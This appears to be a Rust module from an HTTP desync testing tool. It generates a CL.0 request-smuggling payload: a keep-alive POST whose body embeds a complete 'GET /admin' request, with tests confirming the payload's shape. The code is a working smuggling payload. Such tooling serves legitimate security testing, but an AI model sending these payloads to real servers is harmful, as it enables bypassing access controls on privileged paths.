use desynctrace_protocol::{HttpVersion, Request};

use crate::common::{never, templated};

/// Back-end ignores `Content-Length` on this route entirely (e.g. a
/// GET-only static handler). The body is itself a complete, well-formed
/// request targeting a privileged path, which becomes the next request the
/// back-end parses once it stops waiting for a body that will never come
/// from this connection's perspective.
pub fn generate(base: &Request) -> Vec<Request> {
    let smuggled = b"GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec();
    let mut req = templated(base, "POST", HttpVersion::Http1);
    req.headers.push(("Connection".to_string(), "keep-alive".to_string()));
    req.content_length = smuggled.len() as i64;
    req.body = smuggled;
    vec![req]
}

pub use never as verify;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn body_is_a_complete_embedded_request() {
        let base = Request::new("GET", "http://example.com/", HttpVersion::Http1);
        let payload = &generate(&base)[0];
        assert!(payload.body.starts_with(b"GET /admin HTTP/1.1\r\n"));
        assert_eq!(payload.content_length as usize, payload.body.len());
    }

    #[test]
    fn never_verifies_from_a_single_response() {
        use desynctrace_protocol::Response;
        use std::time::Duration;
        let response = Response {
            status: 500,
            headers: vec![],
            body: vec![],
            duration: Duration::from_secs(10),
        };
        assert!(!verify(&response, None));
    }
}
